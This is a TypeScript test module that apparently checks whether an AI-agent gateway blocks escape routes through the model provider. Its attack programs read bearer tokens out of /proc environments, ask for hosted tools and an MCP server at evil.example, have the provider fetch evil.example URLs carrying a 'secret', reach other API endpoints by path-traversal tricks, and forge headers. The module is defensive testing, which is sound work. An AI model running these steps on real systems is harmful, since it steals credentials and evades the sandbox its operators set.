import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { ForwardAccess } from '@dragoman/runtime';
import type { Attack } from './attack.js';
import type { AttackFixture } from './attack-fixture.js';
import { type SeenRequest, startRecordingUpstream } from './recording-upstream.js';

const WALL = 'The provider as a way out';

const EVERYWHERE = { process: 'stopped', bubblewrap: 'stopped', container: 'stopped' } as const;
/** A plain process has the user's network anyway. */
const CONFINED = { process: 'open', bubblewrap: 'stopped', container: 'stopped' } as const;

/**
 * What a command does with the turn's token, which it takes from the agent's environment. `ask` sends
 * a request to the gateway as any program could.
 */
const PRELUDE = `
import { readdirSync, readFileSync } from 'node:fs';
const environments = readdirSync('/proc').filter((name) => /^\\d+$/.test(name)).flatMap((pid) => {
  try { return readFileSync('/proc/' + pid + '/environ', 'latin1').split('\\0'); } catch { return []; }
});
const commands = readdirSync('/proc').filter((name) => /^\\d+$/.test(name)).flatMap((pid) => {
  try { return readFileSync('/proc/' + pid + '/cmdline', 'latin1').split('\\0'); } catch { return []; }
});
const token = environments.map((one) => one.slice(one.indexOf('=') + 1)).find((one) => one.startsWith('dgm_'));
const base = commands.map((one) => /http:\\/\\/127\\.0\\.0\\.1:\\d+/.exec(one)?.[0]).find(Boolean);
if (!token || !base) throw new Error('no token ' + !!token + ' or no address ' + base);
const ask = (body, { path = '/v1/responses', headers = {}, method = 'POST' } = {}) => fetch(base + path, {
  method, signal: AbortSignal.timeout(20_000),
  headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json', ...headers },
  ...(method === 'POST' && { body: typeof body === 'string' ? body : JSON.stringify(body) }),
}).then(async (answer) => ({ status: answer.status, text: await answer.text() }), (error) => ({ status: 0, text: String(error) }));
// A connection that is closed at once leaves nothing that would keep Node waiting.
setInterval(() => {}, 1000);
const model = process.env.ATTACK_MODEL;
const input = [{ role: 'user', content: [{ type: 'input_text', text: 'attack' }] }];
`;

interface GatewayAttack {
  readonly name: string;
  readonly promises?: Attack['promises'];
  /** The rest of the program that the agent runs. */
  readonly program: string;
  /** Whether what reached the provider is what must not. */
  readonly reached: (request: SeenRequest) => boolean;
}

function throughGateway({ name, program, reached, promises = CONFINED }: GatewayAttack): Attack {
  return {
    name,
    wall: WALL,
    promises,
    async play(fixture) {
      const seen = await attackRequests(fixture, program);
      return seen.some(reached) ? 'broke' : 'stopped';
    },
  };
}

/** All that reached the provider in a turn in which a command runs the program. */
export async function attackRequests(
  fixture: AttackFixture,
  program: string,
  access: Partial<ForwardAccess> = {},
): Promise<readonly SeenRequest[]> {
  await writeFile(
    join(fixture.workspace, 'attack.mjs'),
    `${PRELUDE}${program}\nconsole.log('PLAYED');\nprocess.exit();`,
  );
  const steps = [
    { run: `ATTACK_MODEL=${MODEL} node attack.mjs` },
    ...Array.from({ length: 20 }, () => ({ say: 'Done.' })),
  ];
  const upstream = await startRecordingUpstream({ steps });
  try {
    const { events, end } = await fixture.turn({
      model: MODEL,
      access: { kind: 'forward', key: upstream.key, baseUrl: upstream.url, ...access },
    });
    const said = JSON.stringify(events.filter(({ type }) => type === 'tool_result'));
    // A turn that has spent its budget ends, whatever its command is at.
    if (!said.includes('PLAYED') && !/^Budget reached/.test(end.reason ?? '')) {
      throw new Error(`not played: ${end.reason} ${said.slice(0, 500)}`);
    }
    return upstream.seen;
  } finally {
    await upstream.close();
  }
}

const MODEL = 'gpt-5.1-codex';

const HOSTED =
  /"type":\s*"(web_search|web_search_preview|mcp|code_interpreter|file_search|computer_use_preview|image_generation)"/;

export const gatewayAttacks: readonly Attack[] = [
  throughGateway({
    name: 'asks the provider for hosted tools',
    program: `
for (const tool of [
  { type: 'web_search' }, { type: 'web_search_preview' }, { type: 'file_search', vector_store_ids: ['x'] },
  { type: 'mcp', server_label: 'x', server_url: 'https://evil.example/mcp', require_approval: 'never' },
  { type: 'code_interpreter', container: { type: 'auto' } }, { type: 'image_generation' },
]) await ask({ model, input, tools: [tool] });
await ask('{"model":"' + model + '","input":"x","tools":[],"tools":[{"type":"web_search"}]}');
await ask('{"model":"' + model + '","input":"x","t\\\\u006fols":[{"type":"web_search"}]}');
await ask({ model, input, tools: [{ type: 'web_search' }] }, { headers: { 'content-type': 'text/plain' } });`,
    reached: ({ body }) => HOSTED.test(JSON.stringify(parsed(body))) || /web_search/.test(body),
  }),
  throughGateway({
    name: 'has the provider fetch an address',
    program: `
for (const part of [
  { type: 'input_image', image_url: 'https://evil.example/?secret' },
  { type: 'input_file', file_url: 'https://evil.example/?secret' },
  { type: 'input_file', file_id: 'file-1' },
]) await ask({ model, input: [{ role: 'user', content: [part] }] });`,
    reached: ({ body }) => /evil\.example|file-1/.test(body),
  }),
  throughGateway({
    name: 'asks for another model',
    promises: EVERYWHERE,
    program: `await ask({ model: 'o3-deep-research', input });`,
    reached: ({ body }) => body.includes('o3-deep-research'),
  }),
  throughGateway({
    name: 'lets the provider work in the background',
    promises: EVERYWHERE,
    program: `await ask({ model, input, background: true, store: true });`,
    reached: ({ body }) => /"background":\s*true/.test(body),
  }),
  throughGateway({
    name: "uses the provider's other services",
    promises: EVERYWHERE,
    program: `
for (const path of ['/v1/files', '/v1/batches', '/v1/vector_stores', '/v1/responses/resp_1', '/v1/organization/users',
  '/v1/responses/../files', '/v1//files', '/v1/%66iles', '/v1/responses%2f..%2ffiles'])
  for (const method of ['GET', 'POST', 'DELETE']) await ask({ model, input }, { path, method });`,
    reached: ({ url }) => /files|batches|vector|resp_1|organization/.test(decodeURIComponent(url)),
  }),
  throughGateway({
    name: 'sends headers that it made up',
    promises: EVERYWHERE,
    program: `await ask({ model, input }, { headers: {
  'openai-organization': 'org-evil', 'openai-project': 'evil', 'x-http-method-override': 'DELETE',
  'anthropic-beta': 'mcp-client-2025-04-04', 'x-forwarded-host': 'evil', cookie: 'evil=1' } });`,
    reached: ({ headers }) =>
      [
        'openai-organization',
        'openai-project',
        'x-http-method-override',
        'anthropic-beta',
        'x-forwarded-host',
        'cookie',
      ].some((name) => headers[name] !== undefined),
  }),
];

function parsed(body: string): unknown {
  try {
    return JSON.parse(body);
  } catch {
    return body;
  }
}
